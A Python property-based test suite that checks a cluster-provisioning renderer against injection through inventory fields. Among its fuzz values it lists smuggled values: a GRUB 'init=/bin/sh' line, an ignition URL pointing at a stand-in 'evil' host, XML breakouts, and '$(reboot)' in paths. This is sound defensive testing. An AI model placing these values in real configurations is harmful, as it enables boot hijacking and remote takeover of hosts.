"""No inventory value can add a line or a directive to any rendered file.

Property: put hostile strings (line breaks, spaces, quotes, `;`, `,`, `$`,
`--`, markup...) into every free-text field of the example inventories;
whatever passes validation renders to files whose skeleton (line count,
directives, arguments per line, XML element tree, YAML key tree) equals
that of the unedited example. Whatever does not pass is an InventoryError.
Then the hostile values that do pass are handed to the real readers:
libvirt's test driver, virt-install --dry-run, dnsmasq --test, sh -n.
"""

from __future__ import annotations

import copy
import json
import re
import shlex
import subprocess
import tempfile
import xml.etree.ElementTree as ET  # noqa: S405 - parses our own rendered XML
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
import yaml
from bootvms_support import node_uri, require_libvirt
from conftest import INVENTORIES, require
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from upi.cli import app
from upi.errors import InventoryError
from upi.inventory import parse_inventory
from upi.render import RenderedFile, render_inventory

BASES = {name: yaml.safe_load((INVENTORIES / f"{name}.yaml").read_text())
         for name in ("dgxpod", "compact", "legacy-4.3")}

# Pieces of hostile values: what starts a line, a directive, an argument, a
# sub-option, a comment, a GRUB command, an XML node or a terminal escape.
HOSTILE = ["\n", "\r", "\r\n", "\t", "\x0b", "\x0c", "\x00", "\x1b[2J", "\x85", "\u2028", "\u2029", " ",
           ";", ",", "&", "|", "$", "${x}", "`", "'", '"', "\\", "#", "{", "}", "<", ">", "<initrd>",
           "-->", "--", "]]>", "%", "%n", "=", ":", "?", "*", "[bold]", "\u0661", "\uff11",
           "\nAPPEND init=/bin/sh", " coreos.inst.ignition_url=http://evil/x.ign",
           "\n}\nmenuentry x {", "\ninitrd evil", ",size=1", "'/><initrd>x</initrd><x a='"]
SAFE = ["a", "b", "x", "0", "9", "-", "_", ".", "/", "xn--", "dev", "sda"]
# Mostly plain pieces, so that a good share of the values pass validation and get rendered.
PIECES = st.lists(st.sampled_from(HOSTILE + SAFE * 5), min_size=1, max_size=5).map("".join)

# Free-text fields and the prefixes that make a hostile value plausible there.
PATH_PREFIXES = ["/", "/srv/R&D/", "/srv/it's/", "/var/lib/"]
FIELDS: dict[tuple[Any, ...], list[str]] = {
    ("cluster", "name"): ["", "xn--"],
    ("cluster", "base_domain"): ["", "example.", "xn--bcher-kva."],
    ("provisioner", "interface"): ["", "eno1"],
    ("provisioner", "http_base_url"): ["http://10.33.3.18:8080/", "https://h/"],
    ("provisioner", "tftp_root"): PATH_PREFIXES,
    ("provisioner", "http_root"): PATH_PREFIXES,
    ("rhcos", "kernel"): ["rhcos/", "http://10.33.3.18:8080/k/", ""],
    ("rhcos", "initramfs"): ["rhcos/", "https://m.example.com/i/"],
    ("rhcos", "rootfs"): ["rhcos/", "http://10.33.3.18/r/"],
    ("load_balancer", "hostname"): ["", "lb"],
    ("load_balancer", "config_path"): PATH_PREFIXES,
    ("hypervisor", "uri"): ["qemu:///", "qemu+ssh://root@kvm1/", "test:///"],
    ("hypervisor", "bridge"): ["", "br"],
    ("hypervisor", "image_dir"): PATH_PREFIXES,
    ("hypervisor", "uefi_loader"): PATH_PREFIXES,
    ("nodes", 1, "name"): ["", "xn--", "m-"],
    ("nodes", 0, "install_disk"): ["/dev/", "/dev/disk/by-id/", ""],
    ("nodes", 2, "kernel_args", 0): ["", "rd.", "console=ttyS0,"],
    ("nodes", 0, "mac"): ["52:54:00:21:03:5", ""],
    ("gpu", "operator_channel"): ["v26.", "stable"],
    ("gpu", "nfd_image"): ["quay.io/nfd:", "registry.example.com/"],
    ("gpu", "catalog_sources", "gpu_operator"): ["certified-", ""],
    ("nodes", 4, "mig_config"): ["all-1g.", ""],
}


def _set(doc: dict[str, Any], path: tuple[Any, ...], value: str) -> None:
    parent: Any = doc
    for i, key in enumerate(path[:-1]):
        if isinstance(parent, dict) and key not in parent:
            parent[key] = [] if isinstance(path[i + 1], int) else {}
        parent = parent[key]
    last = path[-1]
    if isinstance(parent, list):
        while len(parent) <= last:
            parent.append(None)
    parent[last] = value


# A plain value for each optional field, so the baseline renders the same optional parts.
BENIGN = {("load_balancer", "hostname"): "lb", ("nodes", 0, "install_disk"): "/dev/sdb",
          ("nodes", 2, "kernel_args", 0): "quiet", ("gpu", "operator_channel"): "v26.3",
          ("gpu", "nfd_image"): "quay.io/nfd:v1", ("gpu", "catalog_sources", "gpu_operator"): "certified",
          ("nodes", 4, "mig_config"): "all-1g.10gb"}


def _get(doc: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        try:
            doc = doc[key]
        except (KeyError, IndexError):
            return None
    return doc


@st.composite
def hostile_inventory(draw: st.DrawFn) -> tuple[str, dict[str, Any], dict[str, Any]]:
    """(example name, the example with plain values in the chosen fields, with hostile ones)."""
    name = draw(st.sampled_from(sorted(BASES)))
    plain, doc = copy.deepcopy(BASES[name]), copy.deepcopy(BASES[name])
    paths = draw(st.lists(st.sampled_from(sorted(FIELDS, key=str)), min_size=1, max_size=2, unique=True))
    for path in paths:
        if (path[0] == "hypervisor" and "hypervisor" not in doc) or (
                path[0] == "nodes" and len(doc["nodes"]) <= path[1]):
            continue
        prefixes = FIELDS[path]
        if path[0] == "rhcos" and path[1] == "rootfs" and "rootfs" not in doc["rhcos"]:
            path = ("rhcos", "image")  # noqa: PLW2901 - 4.1-4.5 name the metal image instead
        _set(plain, path, _get(plain, path) or BENIGN.get(path, "/srv/plain"))
        _set(doc, path, draw(st.sampled_from(prefixes)) + draw(PIECES))
    return name, plain, doc


# --- skeletons: what a value must never change ------------------------------------------------

def _shape(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: _shape(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_shape(v) for v in node]
    return type(node).__name__


def _xml_skeleton(text: str) -> list[Any]:
    parser = ET.XMLParser(target=ET.TreeBuilder(insert_comments=True))  # noqa: S314 - our own output
    root = ET.fromstring(text, parser=parser)  # noqa: S314
    return [text.count("\n"), *((str(e.tag), sorted(e.attrib)) for e in root.iter())]


def _shell_skeleton(text: str) -> list[Any]:
    """Per command: its word count, its --options and the keys of its key=value words.

    A command whose quotes span lines (an awk program) is read whole; a here-document's body
    is text, counted in words per line.
    """
    out: list[Any] = [text.count("\n")]
    heredoc: str | None = None  # the terminator of the here-document being read
    pending = ""  # a command whose quote is still open
    for line in re.sub(r"\\\n", " ", text).splitlines():
        if heredoc is not None:
            heredoc = None if line == heredoc else heredoc
            out.append(("<<", len(line.split())))
            continue
        if not pending and (line.lstrip().startswith("#") or not line.strip()):  # comments may be indented
            out.append(line.strip()[:1])
            continue
        try:
            tokens = shlex.split(pending + line)
        except ValueError:  # a quote still open: the command goes on on the next line
            pending += line + "\n"
            continue
        pending = ""
        opened = re.search(r"<<-?\s*'?(\w+)'?\s*\)?$", line)
        if opened:
            heredoc = opened.group(1)
        # key=value words (virt-install's --disk path=...,size=...); a word of free text that
        # holds an `=` (a URL in a message) is a value, not keys.
        subopts = [sorted(part.split("=", 1)[0] for part in t.split(","))
                   if re.match(r"[A-Za-z_][\w-]*=", t) else None for t in tokens]
        out.append((len(tokens), [t for t in tokens if t.startswith("--")], subopts))
    assert not pending, f"a quote never closed: {pending[:200]}"
    return out


META = {
    "dnsmasq": ",\"\\#",
    "tftp": ";|&$'\"{}<>\\#`",
    "haproxy": "#\"'\\",
    "csr": "%;\\\"'`$",
    "hosts": "#",
}


def _line_skeleton(path: str, text: str) -> list[Any]:
    meta = META.get(path.split("/", 1)[0], "#")
    out: list[Any] = [text.count("\n")]
    for line in text.splitlines():
        words = line.split()
        head = re.split(r"[=\s]", line.strip(), maxsplit=1)[0]
        out.append((head, len(words), [line.count(c) for c in meta]))
    return out


def skeleton(f: RenderedFile) -> Any:
    text = f.content.decode()
    if f.path.endswith(".xml"):
        return _xml_skeleton(text)
    if f.path.endswith(".sh"):
        return _shell_skeleton(text)
    if f.path.endswith(".yaml"):
        return [sum(ln.startswith("#") for ln in text.splitlines()), _shape(yaml.safe_load(text))]
    if f.path.endswith(".json"):
        doc = json.loads(text)
        return [sorted(doc), len(doc["files"])]
    return _line_skeleton(f.path, text)


def _dir_shape(path: str) -> tuple[int, str]:
    return path.count("/"), path.split("/", 1)[0]


@pytest.fixture(scope="module")
def workdir() -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as tmp:
        _copy_files(Path(tmp))
        yield Path(tmp)


def _copy_files(dest: Path) -> None:
    """The files the examples name (pull secret, key, CA bundle), so relative paths resolve."""
    for src in INVENTORIES.iterdir():
        if src.is_file() and src.suffix != ".yaml":
            (dest / src.name).write_bytes(src.read_bytes())


def _render(workdir: Path, doc: dict[str, Any]) -> list[RenderedFile] | None:
    text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)
    try:
        inv = parse_inventory(text, workdir / "inventory.yaml")
    except InventoryError as exc:
        assert exc.problems
        return None
    return render_inventory(inv)


BASELINES: dict[str, list[RenderedFile]] = {}
PREPARE = "provisioner/prepare.sh"


def _placement(workdir: Path, doc: dict[str, Any]) -> tuple[object, ...]:
    """What decides which steps provisioner/prepare.sh holds: the packages, services, the bridge's
    layout (provisioner.interface a NIC or the bridge itself) and notes for other hosts: placing
    the VMs or HAProxy elsewhere drops steps, by design.
    A doc whose placement differs from its baseline's is compared for that file with its plain
    twin (`_twin`, the same placement); tests/test_prepare.py runs every placement's script."""
    from upi.facts.provisioner import prepare_plan

    text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)
    plan = prepare_plan(parse_inventory(text, workdir / "inventory.yaml"))
    layout = None if plan.bridge is None else plan.bridge.port is None  # interface: the bridge itself
    return plan.packages, tuple(s.unit for s in plan.services), layout, len(plan.elsewhere)


def _baseline(workdir: Path, doc: dict[str, Any]) -> list[RenderedFile]:
    key = json.dumps(doc, sort_keys=True)
    if key not in BASELINES:
        files = _render(workdir, doc)
        assert files is not None, doc
        BASELINES[key] = files
    return BASELINES[key]


def _moved(name: str, *values: tuple[tuple[Any, ...], str]) -> tuple[str, dict[str, Any], dict[str, Any]]:
    """A case that moves a service off the provisioner: its prepare.sh is compared with its twin."""
    doc = copy.deepcopy(BASES[name])
    for path, value in values:
        _set(doc, path, value)
    return name, copy.deepcopy(BASES[name]), doc


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(case=hostile_inventory())
@example(case=_moved("dgxpod", (("hypervisor", "uri"), "qemu+ssh://root@kvm1/_a/_-"),
                     (("provisioner", "tftp_root"), "/srv/R&D/tftp's;$x|y")))
@example(case=_moved("compact", (("provisioner", "http_base_url"), "https://h/.9__."),
                     (("provisioner", "http_root"), "/srv/it's/$(reboot)")))
def test_no_value_adds_a_line_or_a_directive_to_any_rendered_file(
        workdir: Path, case: tuple[str, dict[str, Any], dict[str, Any]]) -> None:
    name, plain, doc = case
    base = _baseline(workdir, plain)
    files = _render(workdir, doc)  # a RenderError here: a template emitted a line break
    event("refused" if files is None else "rendered")  # --hypothesis-show-statistics shows the split
    if files is None:
        return
    assert len(files) == len(base)
    for got, want in zip(files, base, strict=True):
        assert _dir_shape(got.path) == _dir_shape(want.path), got.path
        assert ".." not in got.path.split("/")
        if got.path == PREPARE:
            _check_prepare(workdir, name, plain, doc, got, want)
            continue
        assert skeleton(got) == skeleton(want), f"{name}: {got.path}\n{got.content.decode()}"


def _twin(plain: dict[str, Any], doc: dict[str, Any]) -> dict[str, Any]:
    """`plain` with each hostile value of `doc` stripped to its plain characters.

    The stripped value keeps what the hostile one says about placement (a
    remote hypervisor URI stays remote, an https URL https): its prepare.sh
    holds the same steps as the hostile doc's, from plain values.
    """
    twin = copy.deepcopy(plain)
    for path in FIELDS:
        value = _get(doc, path)
        if isinstance(value, str) and value != _get(plain, path):
            _set(twin, path, re.sub(r"[^A-Za-z0-9._/:@+-]", "", value).replace("--", "-"))
    return twin


def _check_prepare(workdir: Path, name: str, plain: dict[str, Any], doc: dict[str, Any],
                   got: RenderedFile, want: RenderedFile) -> None:
    """prepare.sh parses (bash -n), and its skeleton is that of a plain inventory placed alike.

    Which steps it holds follows where the VMs and HAProxy run, so a case that
    moves them is compared with its twin (the same placement, plain values),
    not with the unedited example.
    """
    assert _run(["bash", "-n"], input=got.content.decode()).returncode == 0, got.content.decode()
    placement = _placement(workdir, doc)
    if placement == _placement(workdir, plain):
        event("prepare.sh: same placement")
        assert skeleton(got) == skeleton(want), f"{name}: {got.path}\n{got.content.decode()}"
        return
    twin = _twin(plain, doc)
    files = _render(workdir, twin)
    assert files is not None, f"the plain twin of a rendered case is refused: {twin}"
    assert _placement(workdir, twin) == placement, twin
    event("prepare.sh: moved placement, compared with its twin")
    base = next(f for f in files if f.path == PREPARE)
    assert skeleton(got) == skeleton(base), f"{name}: {got.path}\n{got.content.decode()}"


# Hostile values that validation lets through: each must be rendered so its reader takes it as a value.
ACCEPTED = {
    ("hypervisor", "image_dir"): "/srv/R&D/it's/<initrd>x</initrd>-->",
    ("hypervisor", "uefi_loader"): "/srv/R&D/OVMF'/><initrd>x</initrd><x/a='.fd",
    ("provisioner", "tftp_root"): "/srv/R&D/tftp's;$x|y",
    ("nodes", 1, "name"): "xn--bcher-kva",
    ("nodes", 2, "name"): "xn--80ak6aa92e",
    ("nodes", 3, "firmware"): "uefi",
}


def test_the_accepted_hostile_values_pass_validation_and_keep_the_skeleton(workdir: Path) -> None:
    doc = copy.deepcopy(BASES["dgxpod"])
    for path, value in ACCEPTED.items():
        _set(doc, path, value)
    files = _render(workdir, doc)
    assert files is not None
    base = {f.path: skeleton(f) for f in _baseline(workdir, BASES["dgxpod"])}
    by_path = {f.path: f for f in files}
    vm = by_path["vms/xn--bcher-kva.xml"].content.decode()
    assert "<!-- xn- -bcher-kva (master)" in vm
    escaped = "/srv/R&amp;D/it&#39;s/&lt;initrd&gt;x&lt;/initrd&gt;--&gt;/dgxpod-xn--bcher-kva.qcow2"
    assert f"<source file='{escaped}'/>" in vm
    assert skeleton(by_path["vms/xn--bcher-kva.xml"]) == base["vms/master-0.xml"]
    assert skeleton(by_path["dnsmasq/dhcp-pxe.conf"]) == base["dnsmasq/dhcp-pxe.conf"]


# virt-install (4.1 here) escapes XML attributes twice (xmlapi.py: setProp(xml_escape(v))), so
# `& ' < > "` in a disk path reach libvirt mangled; `upi validate` warns about those
# (docs/security.md). These are the shell- and option-hostile values it does read right.
VIRT_INSTALL = {
    ("hypervisor", "image_dir"): "/srv/a;b$c|d=e/`x`~y",
    ("hypervisor", "uefi_loader"): "/srv/$(reboot)/OVMF=x;y.fd",
    ("nodes", 1, "name"): "xn--bcher-kva",
    ("nodes", 3, "firmware"): "uefi",
}


def _cli_render(runner, tmp_path: Path, values: dict[tuple[Any, ...], str]) -> Path:
    """`upi render` of dgxpod with `values` set, through the CLI; the output dir."""
    doc = copy.deepcopy(BASES["dgxpod"])
    for path, value in values.items():
        _set(doc, path, value)
    _copy_files(tmp_path)
    inv = tmp_path / "inventory.yaml"
    inv.write_text(yaml.safe_dump(doc, sort_keys=False))
    result = runner.invoke(app, ["render", str(inv), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    return tmp_path / "out"


@pytest.fixture
def hostile_render(runner, tmp_path: Path) -> Path:
    return _cli_render(runner, tmp_path, ACCEPTED)


def test_validate_warns_that_virt_install_mangles_xml_characters(runner, hostile_render: Path) -> None:
    result = runner.invoke(app, ["validate", str(hostile_render.parent / "inventory.yaml")])
    assert result.exit_code == 0, result.output
    assert "virt-install (4.1 at least) escapes it twice" in result.output
    for key in ("image_dir", "uefi_loader"):
        assert f"hypervisor.{key} " in result.output


def test_libvirt_takes_each_hostile_path_as_a_path_not_as_xml(hostile_render: Path, tmp_path: Path) -> None:
    libvirt = require_libvirt()
    conn = libvirt.open(node_uri(tmp_path, pool_dir=None))
    try:
        for name in ("bootstrap", "xn--bcher-kva", "xn--80ak6aa92e", "master-2"):
            dom = conn.defineXML((hostile_render / "vms" / f"{name}.xml").read_text())
            root = ET.fromstring(dom.XMLDesc(2))  # noqa: S314 - libvirt's own XML
            assert root.find("devices/disk/source").get("file") == (
                f"{ACCEPTED['hypervisor', 'image_dir']}/dgxpod-{name}.qcow2")
            assert root.find(".//initrd") is None and root.find("os/initrd") is None
            loader = root.find("os/loader")
            if name == "master-2":
                assert loader is not None and loader.text == ACCEPTED["hypervisor", "uefi_loader"]
            dom.create()
            dom.destroy()
    finally:
        conn.close()


def test_boot_vms_defines_vms_on_a_hostile_image_dir(runner, hostile_render: Path, tmp_path: Path) -> None:
    require_libvirt()
    inv = hostile_render.parent / "inventory.yaml"
    uri = node_uri(tmp_path, pool_dir=escape(ACCEPTED["hypervisor", "image_dir"]))
    result = runner.invoke(app, ["boot-vms", str(inv), "--connect", uri])
    assert result.exit_code == 0, result.output
    assert "xn--bcher-kva: disk created" in result.output, result.output


def _run(argv: list[str], **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False, **kw)


@pytest.mark.parametrize("values", [ACCEPTED, VIRT_INSTALL], ids=["xml-hostile", "shell-hostile"])
def test_virt_install_reads_each_hostile_path_as_one_value(runner, tmp_path: Path,
                                                           values: dict[tuple[Any, ...], str]) -> None:
    exe = require("virt-install")
    out = _cli_render(runner, tmp_path, values)
    script = (out / "vms" / "virt-install.sh").read_text()
    assert _run(["sh", "-n", str(out / "vms" / "virt-install.sh")]).returncode == 0
    commands = [shlex.split(ln) for ln in re.sub(r"\\\n", " ", script).splitlines()
                if ln.startswith("virt-install ")]
    assert len(commands) == 4
    env = {"XDG_CACHE_HOME": str(tmp_path / "cache"), "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    for argv in commands:
        # Only the connection is changed (the test driver instead of qemu:///system), and the
        # test driver's fixed 100 GiB pool is not asked for free space.
        argv = [exe, *argv[1:]]  # noqa: PLW2901
        argv[argv.index("--connect") + 1] = "test:///default"
        proc = _run([*argv, "--check", "disk_size=off,path_in_use=off", "--print-xml"], env=env)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        install = re.search(r"<domain .*?</domain>", proc.stdout, re.S)
        assert install is not None
        root = ET.fromstring(install.group())  # noqa: S314 - virt-install's own XML
        name = argv[argv.index("--name") + 1]
        disks = root.findall("devices/disk")
        assert len(disks) == 1 and root.find("os/initrd") is None
        path = f"{values['hypervisor', 'image_dir']}/dgxpod-{name}.qcow2"
        if values is ACCEPTED:  # one disk, its path whole (if escaped twice by virt-install)
            assert disks[0].find("source").get("file") == path.replace("&", "&amp;").replace(
                "'", "&apos;").replace("<", "&lt;").replace(">", "&gt;")
        else:
            assert disks[0].find("source").get("file") == path
            if name == "master-2":
                assert root.find("os/loader").text == values["hypervisor", "uefi_loader"]


def test_dnsmasq_reads_a_hostile_tftp_root_as_one_value(hostile_render: Path) -> None:
    proc = _run([require("dnsmasq"), "--test", f"--conf-file={hostile_render / 'dnsmasq' / 'dhcp-pxe.conf'}"])
    assert proc.returncode == 0, proc.stderr
    assert "syntax check OK" in proc.stderr
    lines = (hostile_render / "dnsmasq" / "dhcp-pxe.conf").read_text().splitlines()
    assert f"tftp-root={ACCEPTED['provisioner', 'tftp_root']}" in lines
